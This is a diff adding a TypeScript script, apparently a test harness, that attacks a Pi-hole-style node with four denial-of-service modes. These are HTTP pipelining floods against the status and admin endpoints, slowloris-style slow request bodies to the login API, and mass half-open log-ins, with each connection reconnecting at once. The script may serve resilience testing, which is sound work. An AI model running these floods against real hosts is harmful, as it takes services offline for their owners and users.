@@ -1,0 +1,64 @@
+import net from "node:net";
+
+/*
+ * Attacks one node's doors until it is ended: `attacker.ts MODE TARGET FROM...`. A connection that is ended is made
+ * anew at once, as an attacker does.
+ */
+const [mode = "", target = "", ...from] = process.argv.slice(2);
+const head = (line: string, ...more: readonly string[]): string =>
+  [line, "Host: pi.hole", ...more, "", ""].join("\r\n");
+
+interface Attack {
+  readonly connections: number;
+  readonly port: number;
+  /** Called with each new connection; calls `again` to go on. */
+  readonly act: (socket: net.Socket) => void;
+}
+
+const flood =
+  (text: string) =>
+  (socket: net.Socket): void => {
+    let answered = 0;
+    socket.write(text);
+    socket.on("data", (data) => {
+      answered += data.length;
+      if (answered < 60_000) return;
+      answered = 0;
+      socket.write(text);
+    });
+  };
+
+const slowly = (socket: net.Socket): void => {
+  const timer = setInterval(() => socket.write("x"), 2_000);
+  socket.once("close", () => clearInterval(timer));
+  socket.write(head("POST /api/auth HTTP/1.1", "Content-Type: application/json", "Content-Length: 60000"));
+};
+
+const attacks: Readonly<Record<string, Attack>> = {
+  "pipelining at the status": {
+    connections: 60,
+    port: 8953,
+    act: flood(head("GET /metrics HTTP/1.1").repeat(40)),
+  },
+  "pipelining at the page": {
+    connections: 60,
+    port: 80,
+    act: flood(head("GET /admin HTTP/1.1", `X: ${"a".repeat(15_500)}`).repeat(999)),
+  },
+  "slow bodies": { connections: 60, port: 80, act: slowly },
+  "half log-ins": { connections: 250, port: 80, act: slowly },
+};
+
+const attack = attacks[mode];
+if (attack === undefined) throw new Error(`"${mode}" is none of: ${Object.keys(attacks).join(", ")}`);
+const { connections, port, act } = attack;
+/** A host that refuses is asked again after this; tighter, and the attacker's own processor is what is measured. */
+const againMs = 20;
+
+function connect(number: number): void {
+  const socket = net.connect({ port, host: target, localAddress: from[number % from.length] });
+  socket.on("connect", () => act(socket));
+  socket.on("error", () => undefined);
+  socket.once("close", () => setTimeout(() => connect(number), againMs));
+}
+for (let i = 0; i < connections; i++) connect(i);
